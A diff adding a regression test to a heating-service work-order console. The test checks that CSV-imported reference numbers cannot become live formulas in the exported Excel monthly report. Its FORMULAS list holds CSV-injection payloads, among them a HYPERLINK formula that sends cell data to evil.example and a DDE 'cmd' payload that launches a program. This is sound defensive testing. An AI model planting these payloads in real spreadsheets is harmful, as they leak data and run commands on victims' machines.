@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
+import zipfile
 from collections.abc import Callable
 
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
+from sqlalchemy import update
 
+from api.models import WorkOrder
 from heating_standard.kpis import DEFINITIONS
 from tests.api.conftest import Browser, FixedClock, act_ok
 
@@ -69,3 +73,46 @@ def test_the_monthly_report_is_an_excel_workbook_with_definitions(
     kpi_rows = {row[0]: row for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row and row[0]}
     assert kpi_rows["投诉回访率"][2:4] == (0, 1)  # one complaint completed, not yet called back
     assert b.get("/console/kpis/report.xlsx?month=2026-13").status_code == 422
+
+
+# What a spreadsheet would run (OWASP's CSV injection); the first two are the review's (N4).
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_no_text_in_the_monthly_report_is_a_formula_or_breaks_it(
+    browser: Callable[[str], Browser], client: TestClient, auth: dict
+) -> None:
+    b = browser("agent")
+    table = io.StringIO()
+    writer = csv.writer(table)
+    writer.writerow(["来源", "原始受理时间", "平台工单号", "诉求内容"])
+    for number in FORMULAS:
+        writer.writerow(["12345", "2026-12-01 08:15", number, "室温低"])
+    files = {"file": ("hostile.csv", table.getvalue().encode(), "text/csv")}
+    imported = b.client.post("/console/import/commit", files=files, headers={"X-CSRF-Token": b.csrf})
+    assert "已导入 5 张新工单" in imported.text
+    # Stored before numbers were checked (the review's N5): a control character, and a leading tab.
+    stored = [
+        client.post("/api/v1/work-orders", json={**HOTLINE, "external_reference": f"S-{n}"}, headers=auth)
+        for n in (1, 2)
+    ]
+    with client.app.state.session_factory() as session:  # type: ignore[attr-defined]
+        for answer, number in zip(stored, ["RT\x01CTRL\x1f", "\t=1+1"], strict=True):
+            session.execute(
+                update(WorkOrder).where(WorkOrder.id == answer.json()["id"]).values(external_reference=number)
+            )
+        session.commit()
+
+    report = b.get("/console/kpis/report.xlsx?month=2026-12")
+    assert report.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(report.content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and all("<f>" not in archive.read(name).decode() for name in sheets)
+    book = load_workbook(io.BytesIO(report.content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert all(cell.data_type != "f" for cell in cells)
+    numbers = {cell.value: cell for cell in book["热线工单明细"]["B"][1:]}
+    assert set(numbers) == {*FORMULAS, "RT\ufffdCTRL\ufffd", "\t=1+1"}
+    assert all(numbers[text].quotePrefix for text in [*FORMULAS, "\t=1+1"])  # Excel keeps them text when edited
+    targets = [row[5] for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row[5] == "= 100%"]
+    assert len(targets) == 3  # Q, P and the call-back coverage: the target as written (N12)
